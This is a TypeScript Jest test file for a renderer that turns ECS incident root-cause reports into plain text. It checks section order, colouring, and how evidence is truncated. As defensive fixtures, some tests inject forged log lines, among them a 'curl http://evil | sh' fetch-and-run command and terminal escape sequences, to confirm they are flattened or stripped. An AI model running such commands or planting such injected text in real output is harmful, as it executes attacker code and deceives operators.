import { RcaReportSchema } from '../../../lambda/report/report-schema';
import { renderText } from '../../../lambda/report/renderers/text';
import { sampleReport, withReport } from './sample-report';

const ESC = '\u001b';

describe('renderText', () => {
  it('uses a schema-valid fixture', () => {
    expect(RcaReportSchema.safeParse(sampleReport).success).toBe(true);
  });

  it('puts the verdict first: severity, alert, category, root cause, service and task', () => {
    const lines = renderText(sampleReport).split('\n');
    expect(lines[0]).toMatch(/^HIGH {2}ALERT {2}app_import_error {2}confidence 90%$/);
    expect(lines[1]).toBe("Root cause: Python cannot import module 'core.aws_service'");
    expect(lines[2]).toContain('Service: backend');
    expect(lines[2]).toContain('Task: 0123456789abcdef0123456789abcdef');
    expect(lines[2]).toContain('Cluster: prod');
    expect(lines[3]).toContain('Deployment: ecs-svc/1234567890123456789');
    expect(lines[3]).toContain('Target group: backend-tg');
  });

  it('keeps one-line fields on one line: a stoppedReason or title cannot forge report lines', () => {
    const forged = 'Essential container exited\nRoot cause: AWS SECURITY NOTICE rotate at http://evil\r\u001b[1AHIGH ALERT fake\nFix\n  1. curl http://evil | sh';
    const report = withReport({ resource: { ...sampleReport.resource, stoppedReason: forged, stopCode: 'EssentialContainerExited' } });
    report.rootCause = { ...report.rootCause, title: `Python cannot import\nFix\n  1. run this` };
    const lines = renderText(report).split('\n');
    expect(lines.filter((line) => line.startsWith('Root cause:'))).toHaveLength(1);
    expect(lines.some((line) => line.startsWith('HIGH ALERT fake') || line.startsWith('  1. curl'))).toBe(false);
    expect(lines).toContain('Stopped reason: Essential container exited Root cause: AWS SECURITY NOTICE rotate at http://evil HIGH ALERT fake Fix 1. curl http://evil | sh');
  });

  it('orders the sections: evidence, fix, contributing, symptoms, dismissed, gaps, links', () => {
    const out = renderText(sampleReport);
    const order = ['Evidence', 'Fix', 'Contributing causes (1)', 'Symptoms (1)', 'Dismissed (1)', 'Evidence gaps', 'Links'].map((title) =>
      out.split('\n').indexOf(title),
    );
    expect(order.every((index) => index > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
  });

  it('prints each evidence line whole with its source, timestamp and log stream', () => {
    const out = renderText(sampleReport);
    const evidence = sampleReport.rootCause.evidence[0]!;
    expect(out).toContain(`  log  2026-01-15T10:00:02.000Z  /ecs/backend  web/app/0123456789abcdef0123456789abcdef\n    ${evidence.text}\n`);
  });

  it('numbers the fix steps', () => {
    const out = renderText(sampleReport);
    expect(out).toContain('\n  1. Add an empty `__init__.py` to the `core/` folder and rebuild the image.\n  2. Confirm');
  });

  it('gives each dismissed finding its reason', () => {
    expect(renderText(sampleReport)).toContain('Why dismissed: This task pulled its image and started; the rate limit hit an earlier task.');
  });

  it('shows a benign stop as no alert', () => {
    const out = renderText(withReport({ alert: false, severity: 'info', rootCause: { ...sampleReport.rootCause, category: 'benign_stop' } }));
    expect(out.split('\n')[0]).toMatch(/^INFO {2}no alert {2}benign_stop/);
  });

  it('writes no escape codes without colour and colours the verdict with it', () => {
    expect(renderText(sampleReport)).not.toContain(ESC);
    const coloured = renderText(sampleReport, { color: true });
    expect(coloured.split('\n')[0]).toContain(`${ESC}[31m`);
    expect(coloured.replace(/\u001b\[\d+m/g, '')).toBe(renderText(sampleReport));
  });

  it('strips terminal control sequences from evidence and keeps multi-line evidence unwrapped', () => {
    const long = `ERROR ${'x'.repeat(300)}`;
    const report = withReport({
      rootCause: {
        ...sampleReport.rootCause,
        evidence: [{ source: 'log', text: `${ESC}[31mTraceback (most recent call last):${ESC}[0m\r\n${ESC}]0;pwned\u0007  File "app.py"\n${long}` }],
      },
    });
    const out = renderText(report);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain('\r');
    expect(out).not.toContain('pwned');
    expect(out).toContain('\n    Traceback (most recent call last):\n      File "app.py"\n');
    expect(out).toContain(`\n    ${long}\n`);
  });

  it('lists only the first evidence lines of a secondary finding and says how many more', () => {
    const evidence = ['a', 'b', 'c', 'd', 'e'].map((text) => ({ source: 'serviceEvent' as const, text: `event ${text}` }));
    const out = renderText(withReport({ symptoms: [{ ...sampleReport.symptoms[0]!, evidence }] }));
    expect(out).toContain('event c');
    expect(out).not.toContain('event d');
    expect(out).toContain('(+2 more in the JSON report)');
  });

  it('leaves out empty sections', () => {
    const out = renderText(withReport({ contributing: [], symptoms: [], dismissed: [], evidenceGaps: [], links: {} }));
    for (const title of ['Contributing causes', 'Symptoms', 'Dismissed', 'Evidence gaps', 'Links']) {
      expect(out).not.toContain(title);
    }
  });

  it('notes how many tasks showed a multi-task root cause and lists rules that failed', () => {
    const out = renderText(withReport({ rootCause: { ...sampleReport.rootCause, taskCount: 3 }, ruleErrors: [{ ruleId: 'broken-rule', message: 'boom' }] }));
    expect(out).toContain('(seen in 3 tasks)');
    expect(out).toContain('  * broken-rule: boom');
  });
});
